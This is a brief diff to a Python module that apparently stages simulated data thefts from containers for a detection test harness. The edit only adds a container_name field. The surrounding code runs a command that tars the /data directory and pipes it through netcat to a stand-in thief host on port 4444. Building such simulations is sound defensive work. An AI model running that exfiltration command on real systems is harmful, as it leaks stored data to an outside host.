@@ -21,7 +21,7 @@ class Theft:
         self.key, self.title = key, title
         self.processes, self.user, self.destination = processes, user, destination
         self.port, self.initiation, self.container, self.above = port, initiation, container, above
-        self.truth, self.container_id = None, ""
+        self.truth, self.container_id, self.container_name = None, "", ""
 
 
 def dump_curl(world):
@@ -82,7 +82,7 @@ def container_tar(world):
     theft.truth = Truth.sink(world.thief, f"{world.step}-e.truth", THIEF_BOX, 4444)
     world.db.run(argv + [f"/bin/tar -C /data -c . | /bin/nc {THIEF_BOX} 4444"])
     with open(cidfile, encoding="ascii") as f:
-        theft.container_id = f.read().strip()
+        theft.container_id, theft.container_name = f.read().strip(), name
     return theft
 
 
